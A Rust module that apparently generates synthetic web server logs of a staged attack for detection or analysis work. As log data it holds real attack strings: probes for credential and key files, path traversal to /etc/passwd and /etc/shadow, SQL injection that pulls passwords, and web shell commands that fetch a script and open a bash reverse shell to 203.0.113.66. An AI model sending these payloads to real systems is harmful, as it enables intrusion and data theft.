//! Attacks on the web server.

use super::cast::ATTACKER;
use super::story::{Request, Story};

const SCANNER: &str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)";
const SQLMAP: &str = "sqlmap/1.8.4#stable (https://sqlmap.org)";
const CURL: &str = "curl/8.5.0";

const PROBED: [&str; 24] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/admin/",
    "/administrator/",
    "/backup.zip",
    "/backup.sql",
    "/config.php.bak",
    "/phpmyadmin/",
    "/pma/",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/server-status",
    "/actuator/env",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/manager/html",
    "/solr/admin/info/system",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/test-cgi",
    "/debug/default/view",
    "/owa/auth/logon.aspx",
    "/console/",
];

const TRAVERSALS: [&str; 6] = [
    "/download?file=../../../../etc/passwd",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%252f..%252f..%252fetc/shadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/images/..%c0%af..%c0%afetc/passwd",
    "/view?page=php://filter/convert.base64-encode/resource=index.php",
];

const INJECTIONS: [&str; 10] = [
    "/products?id=1%27",
    "/products?id=1%27%20OR%20%271%27%3D%271",
    "/products?id=1%20AND%201%3D1--%20-",
    "/products?id=1%20UNION%20SELECT%20NULL,NULL,NULL--",
    "/products?id=-1%20UNION%20ALL%20SELECT%201,CONCAT(user,0x3a,password),3%20FROM%20users--",
    "/products?id=1%20AND%20SLEEP(5)",
    "/products?id=1;WAITFOR%20DELAY%20%270:0:5%27--",
    "/products?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))",
    "/products?id=1%20UNION%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--",
    "/products?id=1%20ORDER%20BY%2010--%20-",
];

const SHELL: [&str; 5] = [
    "/uploads/image.php?cmd=id",
    "/uploads/image.php?cmd=uname%20-a",
    "/uploads/image.php?cmd=cat%20/etc/passwd",
    "/uploads/image.php?cmd=wget%20http://203.0.113.66/a.sh%20-O%20/tmp/a.sh",
    "/uploads/image.php?cmd=bash%20-c%20%22bash%20-i%20%3E%26%20/dev/tcp/203.0.113.66/4444%200%3E%261%22",
];

fn attack(story: &mut Story, seconds: f64, method: &str, target: &str, status: u16, agent: &str) {
    let bytes = story.random.between(150, 9_000);
    story.request(
        seconds,
        &Request { client: ATTACKER, method, target, status, bytes, referrer: "-", agent },
    );
}

/// `count` attempts at SQL injection over `span` seconds.
pub(super) fn inject(story: &mut Story, start: f64, span: f64, count: u32) {
    for (number, target) in (0..count).zip(INJECTIONS.iter().cycle()) {
        let status = story.random.pick(&[200, 200, 500, 403]);
        let seconds = start + span * f64::from(number) / f64::from(count);
        // Scanners make each attempt unlike the one before.
        let target = format!("{target}&r={}", story.random.between(1_000, 10_000));
        attack(story, seconds, "GET", &target, status, SQLMAP);
    }
}

/// `count` requests to the API over `span` seconds.
pub(super) fn drain_api(story: &mut Story, start: f64, span: f64, count: u32) {
    for number in 0..count {
        let seconds = start + span * f64::from(number) / f64::from(count);
        let target = match number % 3 {
            0 => format!("/api/v1/customers/{}", 10_000 + number),
            1 => format!("/api/v1/orders?customer={}&limit=1000", 10_000 + number),
            _ => format!("/api/v1/export?table=customers&page={number}"),
        };
        let status = if number % 17 == 16 { 429 } else { 200 };
        attack(story, seconds, "GET", &target, status, "python-requests/2.32.3");
    }
}

/// A scan, then traversal, injection, and a shell that was uploaded.
pub(super) fn tell_attack(story: &mut Story) {
    let mut seconds = 0.0;
    let mut step = |story: &mut Story, most: f64| {
        seconds += 0.1 + story.random.fraction() * most;
        seconds
    };
    for target in PROBED {
        let at = step(story, 0.5);
        let status = story.random.pick(&[404, 404, 404, 403]);
        attack(story, at, "GET", target, status, SCANNER);
    }
    for target in TRAVERSALS {
        let at = step(story, 3.0);
        attack(story, at, "GET", target, 400, CURL);
    }
    let at = step(story, 2.0);
    inject(story, at, 30.0, 30);
    let shell = at + 40.0;
    attack(story, shell, "POST", "/upload", 200, CURL);
    for (number, target) in (1_u8..).zip(SHELL) {
        attack(story, shell + f64::from(number) * 5.0, "GET", target, 200, CURL);
    }
}
